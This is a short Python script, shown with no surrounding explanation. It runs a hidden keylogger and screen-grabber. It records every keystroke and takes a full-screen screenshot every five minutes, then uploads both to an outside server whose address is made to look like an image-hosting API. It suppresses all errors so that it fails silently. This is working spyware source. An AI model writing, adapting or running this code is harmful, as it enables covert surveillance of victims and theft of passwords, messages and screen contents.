import base64
import io
import time

import requests
from PIL import ImageGrab
from pynput import keyboard

_KEY = "00000000000000000000000000000000"
_keys = []


def _on_press(key):
    _keys.append(str(key))


def _shot():
    img = ImageGrab.grab()
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return base64.b64encode(buf.getvalue())


def loop():
    keyboard.Listener(on_press=_on_press).start()
    while True:
        try:
            requests.post("https://api.imgbb-upload.invalid/1/upload", data={"key": _KEY, "image": _shot()}, timeout=30)
            if _keys:
                requests.post("https://api.imgbb-upload.invalid/1/log", data={"k": "".join(_keys[-2000:])}, timeout=30)
                del _keys[:]
        except Exception:
            pass
        time.sleep(300)
